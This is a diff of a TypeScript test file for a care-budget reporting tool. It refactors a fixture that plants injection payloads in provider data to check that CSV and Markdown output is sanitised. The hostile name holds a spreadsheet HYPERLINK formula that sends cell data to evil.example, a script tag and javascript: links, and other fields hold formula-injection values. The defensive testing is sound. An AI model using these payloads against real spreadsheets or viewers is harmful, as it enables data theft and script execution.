@@ -1,10 +1,10 @@
-import { readFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { csvField, csvText } from '../../src/report/csv-format.js';
 import { mdText } from '../../src/report/markdown-text.js';
-import { DECL_HEADER, HOLDERS_HEADER, PROVIDERS_HEADER, runCli, tempDir, writeFiles } from '../support/cli.js';
+import { runCli, smallExport, tempDir } from '../support/cli.js';
 
 describe('csvText (formula injection)', () => {
   it.each([
@@ -50,27 +50,18 @@ describe('mdText (Markdown and HTML injection)', () => {
 const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"klik")<script>alert(1)</script>[x](javascript:alert(1))![](http://evil.example/p.png)<http://evil.example>';
 const HOSTILE_ID = '@ZV|1';
 
-/** The small export with a provider whose name and id attack spreadsheets and Markdown viewers. */
+/**
+ * The small export (test/support/cli.ts) with its busy provider renamed to an id and name that attack
+ * spreadsheets and Markdown viewers, a provider whose soort is a formula, and a raw value of -500 hours.
+ */
 function hostileExport(dir: string): string {
-  return writeFiles(dir, {
-    'budgethouders.csv':
-      HOLDERS_HEADER +
-      'BH1,GM0363,wmo,begeleid_wonen,20000.00,2025-01-01,,A1,,\n' +
-      'BH2,GM0363,wmo,begeleid_wonen,20000.00,2025-01-01,,A2,,2025-03-10\n' +
-      'BH3,GM0363,wmo,begeleiding,15000.00,2025-01-01,,A3,,\n',
-    'zorgverleners.csv':
-      PROVIDERS_HEADER +
-      `"${HOSTILE_ID}","${HOSTILE_NAME.replace(/"/g, '""')}",zzp,01234567,X1,I1\n` +
-      'ZV-OK,Hulp Twee,zzp,07654321,X2,I2\n' +
-      'ZV-BAD,Derde,=1+1,07654322,X3,I3\n',
-    'declaraties.csv':
-      DECL_HEADER +
-      `D1,BH1,"${HOSTILE_ID}",2025-03-03,06:00,20:00,14,40.00,560.00\n` +
-      `D2,BH2,"${HOSTILE_ID}",2025-03-03,07:00,19:00,12,40.00,480.00\n` +
-      `D3,BH2,"${HOSTILE_ID}",2025-03-12,09:00,12:00,3,40.00,120.00\n` +
-      'D4,BH3,ZV-OK,2025-03-04,09:00,13:00,4,38.00,152.00\n' +
-      'D5,BH3,ZV-OK,2025-03-05,09:00,13:00,-500,38.00,152.00\n',
-  });
+  smallExport(dir);
+  const edit = (name: string, f: (text: string) => string) => writeFileSync(join(dir, name), f(readFileSync(join(dir, name), 'utf8')));
+  edit('zorgverleners.csv', (t) =>
+    t.replace('ZV-BUSY,Zorg Één,', `"${HOSTILE_ID}","${HOSTILE_NAME.replace(/"/g, '""')}",`) + 'ZV-BAD,Derde,=1+1,07654322,X3,I3\n',
+  );
+  edit('declaraties.csv', (t) => t.replaceAll(',ZV-BUSY,', `,"${HOSTILE_ID}",`).replace('D5,BH3,ZV-OK,2025-03-05,09:00,13:00,4,', 'D5,BH3,ZV-OK,2025-03-05,09:00,13:00,-500,'));
+  return dir;
 }
 
 /** Every cell of a CSV output that a spreadsheet would run as a formula. */
